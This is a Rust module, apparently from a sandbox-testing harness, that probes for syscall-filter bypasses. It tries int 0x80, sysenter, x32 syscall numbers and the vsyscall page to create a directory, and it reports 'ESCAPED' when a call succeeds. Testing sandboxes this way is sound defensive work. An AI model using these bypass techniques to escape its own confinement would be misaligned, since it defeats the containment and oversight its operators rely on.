//! Ways into the kernel that are not the 64-bit `syscall`: int 0x80, sysenter, x32 numbers, the vsyscall page.

use std::arch::asm;

use crate::try_in_child;

pub unsafe fn attack(directory: &str) {
    // 32-bit entries take 32-bit pointers: put the path low.
    let low = libc::mmap(
        0x1000_0000 as *mut libc::c_void,
        4096,
        libc::PROT_READ | libc::PROT_WRITE,
        libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_FIXED_NOREPLACE,
        -1,
        0,
    ) as *mut u8;
    if low as usize != 0x1000_0000 {
        println!("no low memory");
        return;
    }
    let path = format!("{directory}/through-int80\0");
    std::ptr::copy_nonoverlapping(path.as_ptr(), low, path.len());
    let status = try_in_child(|| {
        // mkdir is 39 there.
        let mut eax = 39i64;
        asm!("push rbx", "mov ebx, {path:e}", "int 0x80", "pop rbx", path = in(reg) low as u32,
            inout("rax") eax, in("rcx") 0o755);
        println!("int 0x80 gave {eax}");
        if eax == 0 {
            println!("ESCAPED: int 0x80 made a directory");
        }
    });
    println!("int 0x80: {status:#x}");
    let status = try_in_child(|| {
        asm!("mov eax, 39", "sysenter", options(noreturn));
    });
    println!("sysenter: {status:#x}");
    let path = format!("{directory}/through-x32\0");
    for number in [83i64, 2, 59] {
        let r = libc::syscall(0x4000_0000 + number, path.as_ptr(), 0o755, 0);
        println!("x32 {number}: {r}");
        if r == 0 {
            println!("ESCAPED: x32 call {number} was answered");
        }
    }
    for page in [0xffff_ffff_ff60_0000u64, 0xffff_ffff_ff60_0400, 0xffff_ffff_ff60_0800] {
        let status = try_in_child(|| {
            let call: extern "C" fn(*mut u64, usize) -> i64 = std::mem::transmute(page);
            let mut buffer = [0u64; 4];
            println!("vsyscall answered {}", call(buffer.as_mut_ptr(), 0) >= 0);
        });
        println!("vsyscall {page:#x}: {status:#x}");
    }
}
